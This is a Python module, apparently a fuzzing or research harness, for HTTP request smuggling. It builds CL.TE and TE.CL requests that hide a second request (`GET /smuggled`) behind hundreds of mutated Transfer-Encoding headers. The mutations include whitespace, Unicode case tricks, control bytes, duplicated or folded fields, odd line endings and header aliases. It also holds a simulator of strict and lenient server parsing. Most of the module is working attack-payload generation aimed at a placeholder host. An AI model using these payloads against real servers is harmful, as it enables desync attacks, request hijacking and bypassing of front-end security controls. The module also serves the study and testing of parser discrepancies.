r"""Requests that two readers may frame differently: what request smuggling is made of (RFC 9112 11.2).

    for mutation in MUTATIONS:
        attack(mutation, "CL.TE", "/jupyter/12/x", "Cookie: ...")     # the bytes to send

A mutation writes `Transfer-Encoding: chunked` so that one reader takes it for that, and another does
not. In a *CL.TE* attack the reader in front would go by `Content-Length` and the one behind by chunks,
in a *TE.CL* attack the other way round; what then looks like a request of its own is `SMUGGLED`.

`requests` reads what an instance got, by any of `READINGS`: also as servers do that are less strict.
"""

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Final, Literal

type Direction = Literal["CL.TE", "TE.CL"]

NAME: Final = b"Transfer-Encoding"
FIELD: Final = b"Transfer-Encoding: chunked"
SMUGGLED: Final = b"GET /smuggled HTTP/1.1\r\nHost: visa.test\r\n\r\n"


@dataclass(frozen=True)
class Mutation:
    """Raw bytes that stand where a header line of `Transfer-Encoding` would; line ends are included."""

    family: str
    lines: bytes
    version: bytes = b"HTTP/1.1"
    behind: bool = False
    """Whether `Content-Length` comes first."""

    def __str__(self) -> str:
        return f"{self.family}: {self.lines!r} {self.version!r}"


def attack(mutation: Mutation, direction: Direction, target: str, cookie: str) -> bytes:
    """Write a complete request, however it is read; what is behind its end asks for nothing of ours."""
    if direction == "CL.TE":
        body = b"0\r\n\r\n" + SMUGGLED
        length = len(body)
    else:
        body = b"%x\r\n%b\r\n0\r\n\r\n" % (len(SMUGGLED), SMUGGLED)
        length = body.index(b"\r\n") + 2
    lines = [mutation.lines, b"Content-Length: %d\r\n" % length]
    if mutation.behind:
        lines.reverse()
    start = b"POST %b %b\r\nHost: visa.test\r\n%b\r\n" % (target.encode(), mutation.version, cookie.encode())
    return start + b"".join(lines) + b"\r\n" + body


# --- the families ------------------------------------------------------------------------

_SPACES: Final = (
    b" ",
    b"\t",
    b"  ",
    b" \t",
    b"\x0b",
    b"\x0c",
    b"\x1c",
    b"\x1f",
    b"\x85",
    b"\xa0",
    b"\xc2\xa0",
    b"\0",
)
_CONTROLS: Final = tuple(bytes([byte]) for byte in (*range(0x20), 0x7F, 0x80, 0xAD, 0xFF))


def _spacing() -> Iterator[bytes]:
    """White space, of HTTP's and of other alphabets, at each place where some reader trims it."""
    for space in _SPACES:
        yield space + FIELD
        yield NAME + space + b": chunked"
        yield NAME + b":" + space + b"chunked"
        yield FIELD + space
        yield NAME + b": " + space + b"chunked" + space
    yield NAME + b":chunked"


def _case() -> Iterator[bytes]:
    """Any case means the same, to those who know it; dotless and long letters fold to ASCII for some."""
    for name in (b"transfer-encoding", b"TRANSFER-ENCODING", b"tRANSFER-eNCODING", b"transfer-Encoding"):
        for value in (b"chunked", b"Chunked", b"CHUNKED", b"cHuNkEd"):
            yield name + b": " + value
    yield "Transfer-Encod\u0131ng: chunked".encode()
    yield "Tran\u017ffer-Encoding: chunked".encode()
    yield "Transfer-Encoding: chun\u212aed".encode()


def _controls() -> Iterator[bytes]:
    """Put a control, or a byte beyond ASCII, inside the name and inside the value."""
    for control in _CONTROLS:
        yield b"Transfer-" + control + b"Encoding: chunked"
        yield NAME + b": chun" + control + b"ked"
        yield NAME + b": chunked" + control + b", identity"


def _quoting() -> Iterator[bytes]:
    """Quotes, comments, parameters and escapes around the coding."""
    for value in (
        *(b'"chunked"', b"'chunked'", b'"chunked', b'chunked"', b"(chunked)", b"chunked (x)", b"<chunked>"),
        *(
            b"chunked;",
            b"chunked;q=1",
            b"chunked; q=0",
            b"chunked;x",
            b";chunked",
            b"chun\\ked",
            b"\\chunked",
        ),
        *(
            b"%63hunked",
            b"=?utf-8?q?chunked?=",
            b"chunked=1",
            b"[chunked]",
            b"{chunked}",
            b"chunked#",
            b"chunked&x",
        ),
    ):
        yield NAME + b": " + value


def _lists() -> Iterator[bytes]:
    """Make lists in which the coding is first, last, alone among nothing, or part of a word."""
    for value in (
        *(
            b"chunked, identity",
            b"identity, chunked",
            b"chunked,identity",
            b"gzip, chunked",
            b"chunked, gzip",
        ),
        *(
            b"chunked, chunked",
            b"chunked,",
            b",chunked",
            b", chunked",
            b"chunked, ,",
            b",",
            b"",
            b"chunked identity",
        ),
        *(
            b"identity chunked",
            b"chunked\tidentity",
            b"xchunked",
            b"chunkedx",
            b"x chunked",
            b"chunked-x",
            b"chunke",
        ),
        *(b"identity", b"chunked, deflate, chunked", b"chunked|identity", b"cow", b"none, chunked", b"chunk"),
        *(b"chunked/1.0", b"null", b"trailers, chunked", b"compress;chunked", b"chunked;chunked"),
    ):
        yield NAME + b": " + value


def _duplication() -> Iterator[bytes]:
    """Two fields, of which one reader takes the first, and another the last, or both."""
    for other in (b"identity", b"chunked", b"x", b"", b"gzip", b"cow", b"chunked, identity"):
        yield FIELD + b"\r\n" + NAME + b": " + other
        yield NAME + b": " + other + b"\r\n" + FIELD
    yield FIELD + b"\r\ntransfer-encoding: x"
    yield b"transfer-encoding: x\r\n" + FIELD
    yield FIELD + b"\r\nX: y\r\n" + FIELD
    yield FIELD + b"\r\nContent-Length: 0"
    yield FIELD + b"\r\nContent-Length: 5\r\nContent-Length: 6"


def _folding() -> Iterator[bytes]:
    """Values and names on lines of their own (RFC 9112 5.2)."""
    for fold in (b"\r\n ", b"\r\n\t", b"\n ", b"\r ", b"\r\n  ", b"\r\n \r\n "):
        yield NAME + b":" + fold + b"chunked"
        yield NAME + fold + b": chunked"
        yield b"X: y" + fold + FIELD
        yield FIELD + fold + b"identity"
        yield NAME + b": identity," + fold + b"chunked"


def _line_ends() -> Iterator[bytes]:
    """End lines as some understand it: the field is then on a line of its own, or on none."""
    for end in (
        b"\n",
        b"\r",
        b"\r\r\n",
        b"\n\r",
        b"\x0b",
        b"\x0c",
        b"\x85",
        b"\xe2\x80\xa8",
        b"\0",
        b"\r\n\r",
    ):
        yield b"X: y" + end + FIELD
        yield FIELD + end + b"X: y"
        yield end + FIELD
    yield b"X: y\\r\\n" + FIELD
    yield b"X: y%0d%0a" + FIELD


def _names() -> Iterator[bytes]:
    """Names that are read as that one by somebody: aliases, and what surrounds it."""
    for name in (
        *(
            b"Transfer_Encoding",
            b"Transfer.Encoding",
            b"Transfer Encoding",
            b"TransferEncoding",
            b"Transfer--Encoding",
        ),
        *(
            b"Transfer-Encoding-",
            b"-Transfer-Encoding",
            b"_Transfer-Encoding",
            b"Transfer-Encoding_",
            b"Transfer\\Encoding",
        ),
        *(
            b"HTTP_TRANSFER_ENCODING",
            b"X-Transfer-Encoding",
            b"Transfer-Encodin",
            b"ransfer-Encoding",
            b"Transfer/Encoding",
        ),
        *(
            b'"Transfer-Encoding"',
            b"(Transfer-Encoding)",
            b"Transfer-Encoding;",
            b"Transfer-Encoding,",
            b"\xef\xbb\xbfTransfer-Encoding",
        ),
        *(
            b"Transfer\xe2\x80\x90Encoding",
            b"Transfer\xe2\x88\x92Encoding",
            b"Transfer\xad-Encoding",
            b"Transfer%2dEncoding",
        ),
        *(
            b"transfer_encoding",
            b"TRANSFER.ENCODING",
            b"Transfer-Encoding\\",
            b":Transfer-Encoding",
            b"Transfer-Encoding:",
        ),
        *(
            b"Transfer-Encoding =",
            b"Transfer-Encoding\x00X",
            b"X\x00Transfer-Encoding",
            b"TE",
            b"Content-Transfer-Encoding",
        ),
    ):
        yield name + b": chunked"
    yield b"Transfer-Encoding= chunked"
    yield b"Transfer-Encoding chunked"
    yield b"Transfer-Encoding"


def _neighbours() -> Iterator[bytes]:
    """Fields beside it that take it away, or add to it, for some."""
    for field in (
        *(
            b"Connection: Transfer-Encoding",
            b"Connection: Content-Length",
            b"Connection: close, transfer-encoding",
        ),
        *(b"TE: chunked", b"TE: trailers", b"Trailer: Transfer-Encoding", b"Content-Encoding: chunked"),
        *(
            b"Upgrade: h2c\r\nConnection: Upgrade",
            b"Proxy-Connection: Transfer-Encoding",
            b"X: " + b"y" * 4000,
        ),
        *(
            b"Keep-Alive: Transfer-Encoding",
            b": x",
            b"X",
            b"X\0: y",
            b"Content-Type: multipart/form-data; boundary=0",
        ),
        *(
            b"Max-Forwards: 0",
            b"Range: bytes=0-0",
            b"X-HTTP-Method-Override: GET",
            b"Content_Length: 0",
            b"Content-Length : 0",
        ),
    ):
        yield FIELD + b"\r\n" + field
        yield field + b"\r\n" + FIELD


FAMILIES: Final[dict[str, Callable[[], Iterator[bytes]]]] = {
    "spacing": _spacing,
    "case": _case,
    "controls": _controls,
    "quoting": _quoting,
    "lists": _lists,
    "duplication": _duplication,
    "folding": _folding,
    "line ends": _line_ends,
    "names": _names,
    "neighbours": _neighbours,
}
_VERSIONS: Final = (b"HTTP/1.0", b"HTTP/1.1 ", b"HTTP/1.2", b"HTTP/1.1\r\nX: y")


def _mutations() -> Iterator[Mutation]:
    for family, lines in FAMILIES.items():
        for line in dict.fromkeys(lines()):
            yield Mutation(family, line + b"\r\n")
    # And the place: behind the length, in another version, without an end of its own.
    for family in ("case", "lists", "duplication", "names"):
        for line in dict.fromkeys(FAMILIES[family]()):
            yield Mutation("place", line + b"\r\n", behind=True)
    for version in _VERSIONS:
        yield Mutation("place", FIELD + b"\r\n", version)
    for end in (b"\n", b"\r", b""):
        yield Mutation("place", FIELD + end)
        yield Mutation("place", FIELD + end, behind=True)


MUTATIONS: Final = tuple(_mutations())


# --- how an instance may read what it gets -----------------------------------------------


@dataclass(frozen=True)
class Reading:
    """How strictly a server takes names and values, and what counts where both framings are there."""

    name: str
    generous: bool
    """Take for the field what resembles it: other separators, white space and controls around it."""
    length_wins: bool

    def framing(self, head: bytes) -> int | None:
        """Return the length of the body behind `head`, None for chunks."""
        length, chunked = 0, False
        for line in re.split(rb"\r\n|\n|\r" if self.generous else rb"\r\n", head)[1:]:
            name, _, value = line.partition(b":")
            if self.generous:
                name = re.sub(rb"[^a-z-]", b"", re.sub(rb"[_.]", b"-", name.lower()))
                value = re.sub(rb"[^a-z0-9, ]", b"", value.lower())
            name, value = name.lower(), value.strip(b" \t").lower()
            chunked = chunked or (name == b"transfer-encoding" and b"chunked" in value)
            if name == b"content-length" and value.isdigit():
                length = int(value)
        return None if chunked and not (self.length_wins and length) else length


STRICT: Final = Reading("strict", generous=False, length_wins=False)
READINGS: Final = (
    STRICT,
    Reading("strict, length wins", generous=False, length_wins=True),
    Reading("generous", generous=True, length_wins=False),
    Reading("generous, length wins", generous=True, length_wins=True),
)

_CHUNK: Final = re.compile(rb"([0-9A-Fa-f]+)[^\r\n]*\r\n")


def requests(data: bytes, reading: Reading) -> tuple[list[bytes], bytes]:
    """Return the heads of the complete requests in `data`, and what is left behind the last."""
    heads = []
    while (end := data.find(b"\r\n\r\n")) >= 0:
        head, rest = data[:end], data[end + 4 :]
        length = reading.framing(head)
        taken = _chunks(rest) if length is None else length
        if taken is None or taken > len(rest):
            break
        heads.append(head)
        data = rest[taken:]
    return heads, data


def _chunks(data: bytes) -> int | None:
    """Return how many bytes a chunked body takes; None when it is not complete."""
    position = 0
    while line := _CHUNK.match(data, position):
        size = int(line[1], 16)
        position = line.end() + size + (2 if size else 0)
        if not size:
            end = data.find(b"\r\n\r\n", position - 2)
            return end + 4 if end >= 0 else None
    return None
